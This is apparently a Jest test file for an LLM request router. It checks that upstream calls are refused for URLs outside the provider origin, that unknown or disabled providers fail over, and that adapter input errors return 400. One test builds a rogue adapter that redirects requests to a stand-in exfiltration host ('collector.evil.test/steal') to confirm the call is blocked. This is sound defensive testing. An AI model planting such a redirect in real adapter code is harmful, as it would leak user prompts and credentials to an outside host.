import { jest } from '@jest/globals';
import { AdapterRequestError, getAdapter, type ProviderAdapter } from '@switchyard/adapters';
import { providerChatRequestSchema, providerFrameSchema, type ProviderFrame } from '@switchyard/contracts';
import type { Dispatcher } from 'undici';
import type { ResolvedProvider } from '../catalog/resolved-provider.js';
import { AttemptExecution, type AttemptDependencies } from './attempt-execution.js';

const request = providerChatRequestSchema.parse({
  attemptId: 'att-1',
  generationId: 'gen-1',
  accountId: 'acct-1',
  endpoint: { id: 'm/x@fake', modelId: 'm/x', providerSlug: 'fake', upstreamModelId: 'x' },
  request: { model: 'm/x', messages: [{ role: 'user', content: 'hi' }], stream: false },
  timeouts: { connectMs: 1_000, firstTokenMs: 1_000, idleMs: 1_000 },
});

function provider(adapter: ProviderAdapter, overrides: Partial<ResolvedProvider> = {}): ResolvedProvider {
  return { slug: 'fake', name: 'Fake', active: true, wireFormat: 'openai', preset: 'openai', baseUrl: 'https://api.fake.test/v1', origin: 'https://api.fake.test', adapter, problem: null, simulator: false, ...overrides };
}

function harness(resolved: ResolvedProvider | undefined) {
  const frames: ProviderFrame[] = [];
  const dispatcher = jest.fn<(origin: string) => Dispatcher>();
  const warnings: string[] = [];
  const dependencies: AttemptDependencies = {
    publishFrame: (subject, frame) => {
      expect(subject).toBe('_INBOX.test');
      frames.push(providerFrameSchema.parse(JSON.parse(frame)));
    },
    resolveProvider: () => resolved,
    resolveKey: () => ({ ok: true, apiKey: 'k', source: 'env' }),
    dispatcher,
    maxFrameBytes: 64 * 1024,
    maxResponseBytes: 1024 * 1024,
    onWarning: (message) => warnings.push(message),
  };
  return { frames, dispatcher, warnings, run: () => new AttemptExecution(request, '_INBOX.test', dependencies).run() };
}

describe('AttemptExecution before the upstream call', () => {
  it('never calls a URL outside the provider origin, whatever the adapter built', async () => {
    const openai = getAdapter('openai', 'openai');
    const rogue: ProviderAdapter = {
      ...openai,
      buildRequest: (canonical, context) => {
        const built = openai.buildRequest(canonical, context);
        return { ...built, request: { ...built.request, url: 'https://collector.evil.test/steal' } };
      },
      parseResponse: openai.parseResponse.bind(openai),
      parseError: openai.parseError.bind(openai),
      createStreamDecoder: openai.createStreamDecoder.bind(openai),
    };
    const { frames, dispatcher, warnings, run } = harness(provider(rogue));
    const result = await run();
    expect(dispatcher).not.toHaveBeenCalled();
    expect(frames).toEqual([
      { k: 'failed', contentSent: false, upstreamMs: 0, ttftMs: null, error: expect.objectContaining({ status: 502, errorType: 'provider_unavailable', retryable: false, message: expect.stringContaining('https://collector.evil.test') }) },
    ]);
    expect(result).toMatchObject({ ok: false, upstreamMs: null });
    expect(warnings[0]).toContain('refused an upstream call');
  });

  it('fails over (retryable 502) for a provider this replica does not know, or one that is disabled', async () => {
    const unknown = harness(undefined);
    await unknown.run();
    expect(unknown.frames[0]).toMatchObject({ k: 'failed', error: { status: 502, retryable: true, message: expect.stringContaining('Unknown provider fake') } });
    const disabled = harness(provider(getAdapter('openai', 'openai'), { active: false }));
    await disabled.run();
    expect(disabled.frames[0]).toMatchObject({ k: 'failed', error: { status: 502, retryable: true, message: 'Provider fake is disabled' } });
    expect(disabled.dispatcher).not.toHaveBeenCalled();
  });

  it("answers the adapter's 400 for input the provider cannot take, not retryable", async () => {
    const openai = getAdapter('openai', 'openai');
    const refusing: ProviderAdapter = {
      ...openai,
      buildRequest: () => {
        throw new AdapterRequestError('image URLs must be data URLs for this provider', { errorType: 'invalid_image', param: 'messages[0].content[1]' });
      },
      parseResponse: openai.parseResponse.bind(openai),
      parseError: openai.parseError.bind(openai),
      createStreamDecoder: openai.createStreamDecoder.bind(openai),
    };
    const { frames, dispatcher, run } = harness(provider(refusing));
    await run();
    expect(dispatcher).not.toHaveBeenCalled();
    expect(frames).toEqual([{ k: 'failed', contentSent: false, upstreamMs: 0, ttftMs: null, error: expect.objectContaining({ status: 400, errorType: 'invalid_image', retryable: false }) }]);
  });
});
